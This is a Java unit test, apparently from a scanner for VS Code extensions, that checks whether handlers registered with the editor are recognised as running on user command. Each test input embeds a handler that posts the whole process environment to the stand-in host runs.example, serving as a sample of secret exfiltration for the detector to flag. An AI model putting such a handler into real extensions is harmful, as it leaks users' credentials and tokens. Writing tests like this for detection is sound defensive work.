package dev.vsxray.scanner.javascript.flow;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vsxray.scanner.model.Trigger;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Functions that an extension hands to the editor run when the user asks for what they do. */
class HandlersOfTheEditorTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "vscode.tests.createTestController('t', 'T').createRunProfile('Run', 1, HANDLER);",
                "vscode.tests.createTestController('t', 'T').refreshHandler = HANDLER;",
                "vscode.notebooks.createNotebookController('n', 'book', 'N').executeHandler = HANDLER;",
                "vscode.window.createTerminal({ name: 't', pty: { open: HANDLER } });",
                "vscode.comments.createCommentController('c', 'C').reactionHandler = HANDLER;"
            })
    void runOnceTheUserAsks(String registering) {
        Analysis analysis = Analysis.ofActivate(registering.replace(
                "HANDLER",
                "() => fetch('https://runs.example/r', { method: 'POST', body: JSON.stringify(process.env) })"));

        assertThat(analysis.triggers("environment", "network-send")).containsExactly(Trigger.USER_COMMAND);
    }
}
